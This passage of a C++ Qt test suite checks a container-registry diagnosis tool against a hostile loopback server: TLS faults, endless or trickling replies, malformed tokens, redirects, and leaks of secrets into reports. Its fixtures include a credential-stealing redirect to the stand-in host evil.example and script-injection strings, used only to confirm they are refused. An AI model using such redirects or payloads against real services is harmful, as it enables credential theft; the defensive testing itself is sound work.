// The fault matrix: full checks against a hostile registry on loopback. Every row must end with a
// clear finding (a probe's detail and a cause), within the time its timeouts allow, without a
// crash, and without the password or a token anywhere in the report. docs/robustness.md lists
// the rows ("Fault matrix").
#include "check_context.h"
#include "diagnosis/check.h"
#include "diagnosis/goal.h"
#include "diagnosis_lookup.h"
#include "network/http_exchange.h"
#include "hostile_server.h"
#include "practice/practice_dns_server.h"
#include "probes/layer_download_probe.h"
#include "practice/practice_registry.h"
#include "report/html_report.h"
#include "report/json_report.h"
#include "report/redactor.h"
#include "report/text_report.h"
#include "standin_bin.h"
#include "test_env.h"
#include <QDateTime>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTcpServer>
#include <QtTest>

using namespace rd;
using rd::test::HostileReply;
using rd::test::HostileServer;
using rd::test::causeIds;
using rd::test::ScopedEnvironment;
using Kind = rd::test::HostileReply::Kind;
using Headers = QList<QPair<QByteArray, QByteArray>>;

namespace {

const QByteArray kUser = "fault-user";
const QByteArray kCanary = "Canary-Pa55-9f8e7d6c";
const QByteArray kTokenSignature = "U2lnbmF0dXJlQ2FuYXJ5LXRva2Vu"; // the JWT's signature part: must never be shown
constexpr int kTimeoutSeconds = 2;

QByteArray base64Url(const QByteArray &b)
{
    return b.toBase64(QByteArray::Base64UrlEncoding | QByteArray::OmitTrailingEquals);
}

// An access token shaped like ACR's: pull and push on "hello", valid until `expires`.
QByteArray accessToken(const QDateTime &expires)
{
    const QByteArray header = base64Url(R"({"alg":"RS256","typ":"JWT"})");
    const QByteArray payload = base64Url(QStringLiteral(R"({"iss":"Azure Container Registry","aud":"contoso.azurecr.io","exp":%1,"nbf":%2,)"
                                                        R"("access":[{"type":"repository","name":"hello","actions":["pull","push"]}]})")
                                             .arg(expires.toSecsSinceEpoch())
                                             .arg(QDateTime::currentSecsSinceEpoch() - 7200)
                                             .toUtf8());
    return header + '.' + payload + '.' + kTokenSignature;
}

QByteArray tokenJson(const QByteArray &token)
{
    return R"({"access_token":")" + token + R"("})";
}

// The image 'hello': one layer, whose download the registry redirects to its data endpoint.
const QByteArray kLayerDigest = "sha256:4f00000000000000000000000000000000000000000000000000000000000001";
const QByteArray kManifest = R"({"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json",)"
                             R"("config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:c0","size":2},)"
                             R"("layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"sha256:4f00000000000000000000000000000000000000000000000000000000000001","size":5},)"
                             R"({"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"sha256:big","size":900000}]})";
const QByteArray kDataHost = "contoso.eastus.data.azurecr.io";

const QByteArray kChallenge = R"(Bearer realm="https://contoso.azurecr.io/oauth2/token",service="contoso.azurecr.io")";

} // namespace

class FaultMatrixTest : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void cleanupTestCase();
    void init();

    void healthyHostile_baseline_noProblem();
    void refusedPort_tcpFails_networkUnreachable();
    void tlsHandshakeNeverCompletes_tlsFailsInTime_networkUnreachable();
    void tlsFatalAlert_tlsFails_networkUnreachable();
    void acceptsButNeverAnswers_challengeStopsAtTimeout_registryUnavailable();
    void resetMidHeaders_challengeFails_registryUnavailable();
    void truncatedBodyOn401_challengeFails_registryUnavailable();
    void truncatedBodyOn200_challengeKeepsTheStatus_notesIncompleteBody();
    void truncatedTokenAnswer_credentialsFail_registryUnavailable();
    void nonJsonBodyOn401_challengePasses_noProblem();
    void nonJsonTokenAnswer_credentialsFail_registryUnavailable();
    void errorsNotAList_on401_challengePasses_noProblem();
    void errorsNotAList_onTokenRefusal_credentialsInvalid();
    void accessTokenNotAString_credentialsFail_registryUnavailable();
    void endlessBodyOnV2_stopsAtCap_checkGoesOn();
    void endlessTokenAnswer_stopsAtCap_registryUnavailable();
    void endlessHeaders_stopsWithinTimeout_registryUnavailable();
    void oneByteASecondHead_stopsAtTimeout_registryUnavailable();
    void oneByteASecondBody_stopsAtTimeout_registryUnavailable();
    void redirectLoopAtV2_notFollowed_notARegistry();
    void redirectToAnotherHost_notFollowed_noCredentialsSent();
    void tokenEndpointRedirects_notFollowed_registryUnavailable();
    void serverErrors_registryUnavailable_data();
    void serverErrors_registryUnavailable();
    void tooManyRequests_throttled_data();
    void tooManyRequests_throttled();
    void missingWwwAuthenticate_notARegistry();
    void malformedWwwAuthenticate_notARegistry();
    void malformedJwtAccessToken_registryAcceptsIt_noProblem();
    void expiredJwtAccessToken_registryRefusesIt_registryUnavailable();
    void realmOnPlainHttp_noCredentialsSent_registryUnavailable();
    void realmOnAnotherHttpsHost_tokenFetchedThere();
    void relayedRequest_stillNamesTheRegistryInTls();
    void keepAliveRegistry_signInOverOneConnection();
    void keepAliveThenEndlessHeaders_reusedConnectionStillCapped();
    // Second round (docs/robustness.md, "Hostile text"):
    void escapeSequencesInServerText_neverReachAWriter();
    void hugeWwwAuthenticate_reportedAsTooLong_notMissing();
    void registryAtLoopbackAddress_hostHeaderWithoutTheRelayPort();
    void ipv6LiteralRegistry_isAnAddress_notAName();
    // A real pull and push (issue 11):
    void manifestMissing_repositoryNotFound_notUnauthorized();
    void blobRedirectToBlockedHost_dataEndpointBlocked();
    void blobRedirectToReachableHost_layerDownloads_signatureNeverShown();
    void uploadRefused_onPush_notAuthorized();
    void realmOnAnotherHostRefused_tokenServiceMisconfigured();
    void ipv6RefusedIpv4Works_ipv6Unreachable_checkGoesOn();
    void ipv6AndIpv4Work_noIpv6Finding();
    void refusedOnAbacRegistry_acrAbacLegacyRole_notAcrPull();
    void refusedOnLegacyRegistry_acrPullAdvice();
    void refusedWhileEntraWantsMfa_mfaRequired();
    void indexWithoutThisPlatform_platformMismatch();
    void indexWithThisPlatform_layerDownloads();
    void serverEchoesTheCredential_inEveryEncoding_neverInAReport();

private:
    // A registry that behaves: 401 Bearer at /v2/, a token for the canary password, 200 with it.
    void behaveWell(HostileServer &s);
    CheckOptions options(const HostileServer &registry) const;
    // Runs the check; fails the test when it does not finish within `boundMs`.
    Diagnosis run(const CheckOptions &o, qint64 boundMs);
    static const ProbeResult *probe(const Diagnosis &d, const char *id) { return rd::test::findProbe(d, id); }
    static void verifyNoSecret(const Diagnosis &d);

    std::unique_ptr<PracticeRegistry> m_dns; // only its DNS responder: contoso.azurecr.io A 127.0.0.1
    std::unique_ptr<ScopedEnvironment> m_env;
    std::unique_ptr<HostileServer> m_registry;
};

void FaultMatrixTest::initTestCase()
{
    m_env = std::make_unique<ScopedEnvironment>();
    for (const char *v : {"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy", "ALL_PROXY", "all_proxy"})
        m_env->unset(v);
    m_dns = std::make_unique<PracticeRegistry>();
    QVERIFY(m_dns->start(QStringLiteral("healthy")));
    QVERIFY(!HostileServer::caCertificate().isNull());
}

void FaultMatrixTest::cleanupTestCase()
{
    m_registry.reset();
    m_dns.reset();
    m_env.reset();
}

void FaultMatrixTest::init()
{
    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls);
    QVERIFY(m_registry->start());
}

void FaultMatrixTest::behaveWell(HostileServer &s)
{
    s.route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", kChallenge}, {"Content-Type", "application/json"}},
                                         R"({"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]})"));
    s.routeAuthorized("/v2/", HostileReply::answer(200, {{"Content-Type", "application/json"}}, "{}"));
    s.route("/oauth2/token", HostileReply::answer(200, {{"Content-Type", "application/json"}},
                                                  tokenJson(accessToken(QDateTime::currentDateTimeUtc().addSecs(3600)))));
    s.routeAuthorized("/v2/hello/tags/list", HostileReply::answer(200, {{"Content-Type", "application/json"}},
                                                                  R"({"name":"hello","tags":["latest"]})"));
    s.routeAuthorized("/v2/hello/manifests/latest",
                      HostileReply::answer(200, {{"Content-Type", "application/vnd.oci.image.manifest.v1+json"}}, kManifest));
    s.routeAuthorized("/v2/hello/blobs/" + kLayerDigest, HostileReply::answer(206, {{"Content-Type", "application/octet-stream"}}, "layer"));
}

CheckOptions FaultMatrixTest::options(const HostileServer &registry) const
{
    CheckOptions o;
    o.registryInput = QStringLiteral("contoso.azurecr.io");
    o.username = QString::fromLatin1(kUser);
    o.password = Secret(kCanary);
    o.passwordGiven = true;
    o.signIn = SignInMethod::Password;
    o.repository = QStringLiteral("hello");
    o.action = QStringLiteral("pull");
    o.extraCaCertificates = {HostileServer::caCertificate()};
    o.timeoutSeconds = kTimeoutSeconds;
    o.connectTo.insert(QStringLiteral("contoso.azurecr.io:443"), registry.address());
    o.dnsServer = QStringLiteral("127.0.0.1:%1").arg(m_dns->dnsPort());
    o.practiceScenario = QStringLiteral("fault-matrix"); // no local docker/az probes
    return o;
}

Diagnosis FaultMatrixTest::run(const CheckOptions &o, qint64 boundMs)
{
    Check check(o);
    QSignalSpy done(&check, &Check::finished);
    QElapsedTimer clock;
    clock.start();
    check.start();
    // A hang must fail the row, not wait forever: wait a little longer than the bound, then judge.
    done.wait(int(boundMs) + 5000);
    const qint64 elapsed = clock.elapsed();
    if (done.isEmpty()) {
        check.cancel();
        QTest::qFail(qPrintable(QStringLiteral("the check did not finish within %1 ms").arg(boundMs + 5000)), __FILE__, __LINE__);
        return {};
    }
    if (elapsed > boundMs)
        QTest::qFail(qPrintable(QStringLiteral("the check took %1 ms, more than its bound of %2 ms").arg(elapsed).arg(boundMs)),
                     __FILE__, __LINE__);
    const Diagnosis d = check.diagnosis();
    verifyNoSecret(d);
    if (qEnvironmentVariableIsSet("RD_FAULT_MATRIX_VERBOSE")) // the findings of each row, for docs/robustness.md
        for (const ProbeResult &p : d.probes)
            qInfo().noquote() << p.id << probeStatusName(p.status) << p.detail << "|" << causeIds(d).join(QLatin1Char(','));
    return d;
}

void FaultMatrixTest::verifyNoSecret(const Diagnosis &d)
{
    // No redactor here: the report must be clean before the last line of defence.
    const Redactor none;
    const QByteArray json = QJsonDocument(diagnosisToJson(d)).toJson();
    const QByteArray text = writeTextReport(d, none, QStringLiteral("bash")).toUtf8()
                            + writeTextReport(d, none, QStringLiteral("powershell")).toUtf8()
                            + writeMarkdownReport(d, none).toUtf8();
    const QByteArray basic = (kUser + ':' + kCanary).toBase64();
    for (const QByteArray &secret : {kCanary, basic, kTokenSignature}) {
        if (json.contains(secret) || text.contains(secret))
            QTest::qFail("a secret (the canary password, its Basic form, or the token's signature) is in the report",
                         __FILE__, __LINE__);
    }
}

// Bounds: dns and tcp are quick on loopback; each HTTP request stops at kTimeoutSeconds.
constexpr qint64 kQuick = 4000;
constexpr qint64 kOneTimeout = kTimeoutSeconds * 1000 + 3000;

#define STATUS_OF(d, id) (probe(d, id) ? probe(d, id)->status : ProbeStatus::Skip)
#define DETAIL_OF(d, id) (probe(d, id) ? probe(d, id)->detail : QString())
#define EVIDENCE_OF(d, id, key) (probe(d, id) ? probe(d, id)->evidence.value(QStringLiteral(key)) : QVariant())

void FaultMatrixTest::healthyHostile_baseline_noProblem()
{
    behaveWell(*m_registry);
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(causeIds(d), QStringList());
    QCOMPARE(STATUS_OF(d, "permissions"), ProbeStatus::Pass);
    // The password went to the token endpoint (Basic), the token to the registry (Bearer).
    QCOMPARE(m_registry->requestsTo("/oauth2/token").value(0).authorizationScheme, QByteArray("Basic"));
    QCOMPARE(m_registry->requestsTo("/v2/").value(1).authorizationScheme, QByteArray("Bearer"));
}

void FaultMatrixTest::refusedPort_tcpFails_networkUnreachable()
{
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QStringLiteral("contoso.azurecr.io:443"), QStringLiteral("127.0.0.1:%1").arg(HostileServer::closedPort()));
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "tcp"), ProbeStatus::Fail);
    QVERIFY2(DETAIL_OF(d, "tcp").contains(QStringLiteral("refused")), qPrintable(DETAIL_OF(d, "tcp")));
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Skip);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("network-unreachable")});
}

void FaultMatrixTest::tlsHandshakeNeverCompletes_tlsFailsInTime_networkUnreachable()
{
    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls);
    m_registry->setHandshake(HostileServer::Handshake::NeverServerHello);
    QVERIFY(m_registry->start());
    const Diagnosis d = run(options(*m_registry), kOneTimeout);
    QCOMPARE(STATUS_OF(d, "tcp"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "tls"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "tls", "handshakeFailed").toBool(), true);
    QCOMPARE(EVIDENCE_OF(d, "tls", "timedOut").toBool(), true);
    QVERIFY2(DETAIL_OF(d, "tls").contains(QStringLiteral("handshake")), qPrintable(DETAIL_OF(d, "tls")));
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Skip);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("network-unreachable")});
}

void FaultMatrixTest::tlsFatalAlert_tlsFails_networkUnreachable()
{
    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls);
    m_registry->setHandshake(HostileServer::Handshake::FatalAlert);
    QVERIFY(m_registry->start());
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "tls"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "tls", "handshakeFailed").toBool(), true);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Skip);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("network-unreachable")});
    QCOMPARE(m_registry->requests().size(), 0);
}

void FaultMatrixTest::acceptsButNeverAnswers_challengeStopsAtTimeout_registryUnavailable()
{
    m_registry->route("/v2/", HostileReply::of(Kind::NeverAnswer));
    const Diagnosis d = run(options(*m_registry), kOneTimeout);
    QCOMPARE(STATUS_OF(d, "tls"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "errorCode").toInt(), int(QNetworkReply::TimeoutError));
    QVERIFY2(DETAIL_OF(d, "challenge").contains(QStringLiteral("did not answer")), qPrintable(DETAIL_OF(d, "challenge")));
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Skip);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::resetMidHeaders_challengeFails_registryUnavailable()
{
    m_registry->route("/v2/", HostileReply::of(Kind::ResetMidHeaders, 401, {{"WWW-Authenticate", kChallenge}}));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "status"), QVariant());
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::truncatedBodyOn401_challengeFails_registryUnavailable()
{
    behaveWell(*m_registry);
    HostileReply r = HostileReply::of(Kind::TruncatedBody, 401, {{"WWW-Authenticate", kChallenge}}, R"({"errors":)");
    r.declaredLength = 1000;
    m_registry->route("/v2/", r);
    const Diagnosis d = run(options(*m_registry), kQuick);
    // Qt reads a 401's whole body before it shows the status: a cut body is a cut answer.
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "errorCode").toInt(), int(QNetworkReply::RemoteHostClosedError));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::truncatedBodyOn200_challengeKeepsTheStatus_notesIncompleteBody()
{
    HostileReply r = HostileReply::of(Kind::TruncatedBody, 200, {{"Content-Type", "application/json"}}, R"({"a":)");
    r.declaredLength = 1000;
    m_registry->route("/v2/", r);
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "bodyIncomplete").toBool(), true);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Skip);
    QCOMPARE(causeIds(d), QStringList());
}

void FaultMatrixTest::truncatedTokenAnswer_credentialsFail_registryUnavailable()
{
    behaveWell(*m_registry);
    HostileReply r = HostileReply::of(Kind::TruncatedBody, 200, {{"Content-Type", "application/json"}}, R"({"access_)");
    r.declaredLength = 1000;
    m_registry->route("/oauth2/token", r);
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("no-token"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::nonJsonBodyOn401_challengePasses_noProblem()
{
    behaveWell(*m_registry);
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", kChallenge}, {"Content-Type", "text/html"}},
                                                   "<html><body>Sign in <script>alert(1)</script></body></html>"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(causeIds(d), QStringList());
}

void FaultMatrixTest::nonJsonTokenAnswer_credentialsFail_registryUnavailable()
{
    behaveWell(*m_registry);
    m_registry->route("/oauth2/token", HostileReply::answer(200, {{"Content-Type", "text/html"}}, "<html>Welcome to the portal</html>"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("no-token"));
    QVERIFY2(DETAIL_OF(d, "credentials").contains(QStringLiteral("without a token")), qPrintable(DETAIL_OF(d, "credentials")));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::errorsNotAList_on401_challengePasses_noProblem()
{
    behaveWell(*m_registry);
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", kChallenge}, {"Content-Type", "application/json"}},
                                                   R"({"errors": 5})"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(causeIds(d), QStringList());
}

void FaultMatrixTest::errorsNotAList_onTokenRefusal_credentialsInvalid()
{
    behaveWell(*m_registry);
    m_registry->route("/oauth2/token", HostileReply::answer(401, {{"Content-Type", "application/json"}}, R"({"errors": 5})"));
    m_registry->routeAuthorized("/oauth2/token", HostileReply::answer(401, {{"Content-Type", "application/json"}}, R"({"errors": 5})"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("credentials-invalid")});
}

void FaultMatrixTest::accessTokenNotAString_credentialsFail_registryUnavailable()
{
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/oauth2/token", HostileReply::answer(200, {{"Content-Type", "application/json"}}, R"({"access_token": 42})"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("no-token"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
    QCOMPARE(m_registry->requestsTo("/v2/").size(), 1); // no second /v2/ without a token
}

void FaultMatrixTest::endlessBodyOnV2_stopsAtCap_checkGoesOn()
{
    behaveWell(*m_registry);
    m_registry->route("/v2/", HostileReply::of(Kind::EndlessBody, 401, {{"WWW-Authenticate", kChallenge}}));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "bodyCappedAtBytes").toLongLong(), qint64(256 * 1024));
    QCOMPARE(causeIds(d), QStringList());
    // The check stopped reading: the server could hand over no more than the cap plus what the
    // socket buffers on both sides hold, far from the 1 GiB it would send to a reader that never stops.
    QVERIFY2(m_registry->bytesWritten() < 64LL * 1024 * 1024, qPrintable(QString::number(m_registry->bytesWritten())));
}

void FaultMatrixTest::endlessTokenAnswer_stopsAtCap_registryUnavailable()
{
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/oauth2/token", HostileReply::of(Kind::EndlessBody, 200, {{"Content-Type", "application/json"}}));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("no-token"));
    QCOMPARE(EVIDENCE_OF(d, "credentials", "bodyCappedAtBytes").toLongLong(), qint64(256 * 1024));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
    QVERIFY2(m_registry->bytesWritten() < 64LL * 1024 * 1024, qPrintable(QString::number(m_registry->bytesWritten())));
}

void FaultMatrixTest::endlessHeaders_stopsWithinTimeout_registryUnavailable()
{
    m_registry->route("/v2/", HostileReply::of(Kind::EndlessHeaders, 401));
    const Diagnosis d = run(options(*m_registry), kOneTimeout);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "status"), QVariant());
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
    QVERIFY2(m_registry->bytesWritten() < 64LL * 1024 * 1024,
             qPrintable(QString::number(m_registry->bytesWritten())));
}

void FaultMatrixTest::oneByteASecondHead_stopsAtTimeout_registryUnavailable()
{
    m_registry->route("/v2/", HostileReply::of(Kind::Slowloris, 401, {{"WWW-Authenticate", kChallenge}}));
    const Diagnosis d = run(options(*m_registry), kOneTimeout);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "errorCode").toInt(), int(QNetworkReply::TimeoutError));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::oneByteASecondBody_stopsAtTimeout_registryUnavailable()
{
    behaveWell(*m_registry);
    // Each byte restarts Qt's transfer timeout; only the exchange's own deadline stops this one.
    m_registry->routeAuthorized("/oauth2/token", HostileReply::of(Kind::SlowBody, 200, {{"Content-Type", "application/json"}},
                                                                  tokenJson(accessToken(QDateTime::currentDateTimeUtc().addSecs(3600)))));
    const Diagnosis d = run(options(*m_registry), kOneTimeout);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "reason").toString(), QStringLiteral("no-answer"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::redirectLoopAtV2_notFollowed_notARegistry()
{
    m_registry->route("/v2/", HostileReply::answer(302, {{"Location", "/v2/"}}));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "redirectTo").toString(), QStringLiteral("https://contoso.azurecr.io/v2/"));
    QVERIFY2(DETAIL_OF(d, "challenge").contains(QStringLiteral("redirect")), qPrintable(DETAIL_OF(d, "challenge")));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("not-a-registry")});
    QCOMPARE(m_registry->requestsTo("/v2/").size(), 1);
}

void FaultMatrixTest::redirectToAnotherHost_notFollowed_noCredentialsSent()
{
    HostileServer evil(HostileServer::Transport::Tls, {QStringLiteral("evil.example")});
    QVERIFY(evil.start());
    m_registry->route("/v2/", HostileReply::answer(302, {{"Location", "https://user:pw@evil.example/steal?token=abc"}}));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QStringLiteral("evil.example:443"), evil.address()); // reachable, so following would show
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    // The target is named without its user info and query.
    QCOMPARE(EVIDENCE_OF(d, "challenge", "redirectTo").toString(), QStringLiteral("https://evil.example/steal"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("not-a-registry")});
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Skip);
    QCOMPARE(evil.connectionCount(), 0);
    for (const auto &r : m_registry->requests())
        QVERIFY(!r.hasAuthorization);
}

void FaultMatrixTest::tokenEndpointRedirects_notFollowed_registryUnavailable()
{
    HostileServer evil(HostileServer::Transport::Tls, {QStringLiteral("evil.example")});
    QVERIFY(evil.start());
    behaveWell(*m_registry);
    m_registry->routeAuthorized("/oauth2/token", HostileReply::answer(307, {{"Location", "https://evil.example/oauth2/token"}}));
    CheckOptions o = options(*m_registry);
    o.connectTo.insert(QStringLiteral("evil.example:443"), evil.address());
    const Diagnosis d = run(o, kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "credentials", "redirectTo").toString(), QStringLiteral("https://evil.example/oauth2/token"));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
    QCOMPARE(evil.connectionCount(), 0);
}

void FaultMatrixTest::serverErrors_registryUnavailable_data()
{
    QTest::addColumn<int>("status");
    QTest::newRow("500") << 500;
    QTest::newRow("502") << 502;
    QTest::newRow("503") << 503;
}

void FaultMatrixTest::serverErrors_registryUnavailable()
{
    QFETCH(int, status);
    m_registry->route("/v2/", HostileReply::answer(status, {{"Content-Type", "text/html"}}, "<h1>Bad Gateway</h1>"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(EVIDENCE_OF(d, "challenge", "status").toInt(), status);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("registry-unavailable")});
}

void FaultMatrixTest::tooManyRequests_throttled_data()
{
    QTest::addColumn<QByteArray>("retryAfter");
    QTest::addColumn<QString>("shown"); // the seconds the detail names, empty: none
    QTest::newRow("seconds") << QByteArray("30") << QStringLiteral("30");
    QTest::newRow("absent") << QByteArray() << QString();
    QTest::newRow("http-date") << QDateTime::currentDateTimeUtc().addSecs(120).toString(QStringLiteral("ddd, dd MMM yyyy hh:mm:ss 'GMT'")).toLatin1()
                               << QStringLiteral("12"); // 120 s from when the rows were made, checked below
    QTest::newRow("garbage") << QByteArray("<script>soon</script>") << QString();
    QTest::newRow("enormous") << QByteArray("99999999999999999999") << QString();
}

void FaultMatrixTest::tooManyRequests_throttled()
{
    QFETCH(QByteArray, retryAfter);
    QFETCH(QString, shown);
    Headers h{{"Content-Type", "application/json"}};
    if (!retryAfter.isEmpty())
        h.append({"Retry-After", retryAfter});
    m_registry->route("/v2/", HostileReply::answer(429, h, R"({"errors":[{"code":"TOOMANYREQUESTS","message":"slow down"}]})"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("throttled")});
    const QString seconds = EVIDENCE_OF(d, "challenge", "retryAfter").toString();
    if (shown.isEmpty()) {
        QCOMPARE(seconds, QString());
        QVERIFY2(!DETAIL_OF(d, "challenge").contains(QStringLiteral("wait")), qPrintable(DETAIL_OF(d, "challenge")));
    } else if (shown == QLatin1String("12")) {
        // The date was written when the rows were made; the rows before this one (each a whole
        // check) take some seconds on a loaded machine, so the wait left is a little under 120.
        bool ok = false;
        const int left = seconds.toInt(&ok);
        QVERIFY2(ok && left <= 120 && left >= 90, qPrintable(seconds));
    } else {
        QCOMPARE(seconds, shown);
        QVERIFY2(DETAIL_OF(d, "challenge").contains(shown + QStringLiteral(" seconds")), qPrintable(DETAIL_OF(d, "challenge")));
    }
    QVERIFY(!DETAIL_OF(d, "challenge").contains(QStringLiteral("<script>")));
}

void FaultMatrixTest::missingWwwAuthenticate_notARegistry()
{
    m_registry->route("/v2/", HostileReply::answer(401, {{"Content-Type", "application/json"}}, "{}"));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QVERIFY2(DETAIL_OF(d, "challenge").contains(QStringLiteral("WWW-Authenticate")), qPrintable(DETAIL_OF(d, "challenge")));
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("not-a-registry")});
}

void FaultMatrixTest::malformedWwwAuthenticate_notARegistry()
{
    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", "Bearer realm=\"https://contoso.azurecr.io/oauth2/token,service="}}));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
    QVERIFY(!EVIDENCE_OF(d, "challenge", "challengeProblem").toString().isEmpty());
    QCOMPARE(causeIds(d), QStringList{QStringLiteral("not-a-registry")});
    QCOMPARE(m_registry->requestsTo("/oauth2/token").size(), 0);
}

void FaultMatrixTest::malformedJwtAccessToken_registryAcceptsIt_noProblem()
{
    behaveWell(*m_registry);
    // Not every registry's token is a JWT: an unreadable one is used as it is, never shown.
    m_registry->routeAuthorized("/oauth2/token", HostileReply::answer(200, {{"Content-Type", "application/json"}},
                                                                      tokenJson("eyJhbGciOi.!!notbase64!!." + kTokenSignature)));
    const Diagnosis d = run(options(*m_registry), kQuick);
    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Pass);
